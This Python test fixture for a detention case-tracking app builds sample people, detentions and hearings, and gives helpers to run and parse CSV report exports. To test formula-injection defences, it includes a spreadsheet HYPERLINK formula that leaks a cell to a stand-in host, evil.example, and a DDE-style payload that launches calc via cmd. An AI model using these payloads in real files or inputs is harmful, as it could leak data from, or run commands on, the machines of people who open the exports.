"""A small fixed data set for the report export tests, and helpers to run and read exports."""

import csv
import datetime as dt
import io
from dataclasses import dataclass

from casetracker.cases import choices
from casetracker.cases.models import Person
from casetracker.reports.exports.services import report_export_request
from casetracker.reports.models import ReportExport
from casetracker.reports.statistics.filters import ReportFilters
from tests.factories import (
    MOSCOW,
    CaseFactory,
    ChargeFactory,
    DetentionFactory,
    EventFactory,
    EvidenceClaimFactory,
    HearingFactory,
    PersonFactory,
)

NAME = "Соколова Анна Викторовна"
PHONE = "+7 916 555-12-34"
BIRTH_DATE = dt.date(1990, 5, 17)
NARRATIVE = "Задержана у турникета; сотрудник назвал систему «Сфера»."
HOME_ADDRESS = "ул. Тверская, д. 7, кв. 12"
NO_CONSENT_NAME = "Петров Игорь Олегович"
# Free text typed by users: the formula-injection vector.
EVIL_EVENT = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
EVIL_PLACE = "@SUM(1+1)*cmd|' /C calc'!A0"
MINUS_PLACE = "-Манежная"


@dataclass
class ExportData:
    anna: Person
    refuser: Person
    minor: Person


def build_export_data() -> ExportData:
    """Four detentions of three people.

    Anna (consent: publication, journalist) twice: in the metro on 28 January 2021 at a
    rally whose name is a formula, by facial recognition on footage of 23 January (lag 5)
    and CCTV review, and at home on 2 February; her case: a charge under KoAP 20.2 part 5,
    a fine of 15,000 and 10 days of arrest. A person with consent `none`, on the street
    whose name is a formula, by event video. A minor (consent: anonymized) at 00:30
    Moscow time on 1 February (still 31 January in UTC), at the event, in a press vest,
    with force, at a place beginning with a minus.
    """
    rally = EventFactory(name=EVIL_EVENT, date=dt.date(2021, 1, 23))
    anna = PersonFactory(
        full_name=NAME, phone=PHONE, birth_date=BIRTH_DATE, is_journalist=True, consent=choices.Consent.PUBLICATION
    )
    anna_case = CaseFactory(person=anna)
    metro = DetentionFactory(
        case=anna_case,
        detained_at=dt.datetime(2021, 1, 28, 9, 15, tzinfo=MOSCOW),
        place="Пушкинская",
        event=rally,
        present_at_event=choices.PresentAtEvent.YES,
        narrative=NARRATIVE,
    )
    EvidenceClaimFactory(
        detention=metro,
        method=choices.IdentificationMethod.FACIAL_RECOGNITION_METRO,
        footage_event=rally,
        footage_date=dt.date(2021, 1, 23),
    )
    EvidenceClaimFactory(detention=metro, method=choices.IdentificationMethod.CCTV_REVIEW)
    DetentionFactory(
        case=anna_case,
        detained_at=dt.datetime(2021, 2, 2, 7, 0, tzinfo=MOSCOW),
        place_type=choices.PlaceType.HOME,
        place=HOME_ADDRESS,
        narrative=NARRATIVE,
    )
    ChargeFactory(case=anna_case)
    HearingFactory(case=anna_case, date=dt.date(2021, 2, 3), outcome=choices.HearingOutcome.FINE, fine_amount=15000)
    HearingFactory(
        case=anna_case,
        date=dt.date(2021, 2, 5),
        outcome=choices.HearingOutcome.ARREST,
        fine_amount=None,
        arrest_days=10,
    )
    refuser = PersonFactory(full_name=NO_CONSENT_NAME, consent=choices.Consent.NONE)
    EvidenceClaimFactory(
        detention=DetentionFactory(
            case=CaseFactory(person=refuser),
            detained_at=dt.datetime(2021, 1, 31, 15, 0, tzinfo=MOSCOW),
            place_type=choices.PlaceType.STREET,
            place=EVIL_PLACE,
            region="Санкт-Петербург",
            city="Санкт-Петербург",
        ),
        method=choices.IdentificationMethod.EVENT_VIDEO,
    )
    minor = PersonFactory(birth_date=dt.date(2005, 3, 1), consent=choices.Consent.ANONYMIZED)
    DetentionFactory(
        case=CaseFactory(person=minor),
        detained_at=dt.datetime(2021, 2, 1, 0, 30, tzinfo=MOSCOW),
        place_type=choices.PlaceType.AT_EVENT,
        place=MINUS_PLACE,
        press_vest=True,
        force_used=True,
    )
    return ExportData(anna=anna, refuser=refuser, minor=minor)


def run_export(
    capture, user, export_format: str, filters: ReportFilters | None = None, language: str = "en"
) -> ReportExport:
    """Request an export and run its task (eager Celery) as the commit would."""
    with capture(execute=True):
        export = report_export_request(
            user=user, filters=filters or ReportFilters(), export_format=export_format, language=language
        )
    export.refresh_from_db()
    return export


def export_bytes(export: ReportExport) -> bytes:
    """The export's file as its requester downloads it: the storage decrypts it."""
    with export.file.open("rb") as handle:
        return handle.read()


def csv_records(data: bytes) -> list[dict[str, str]]:
    assert data.startswith(b"\xef\xbb\xbf")  # the BOM spreadsheets need to read UTF-8
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))
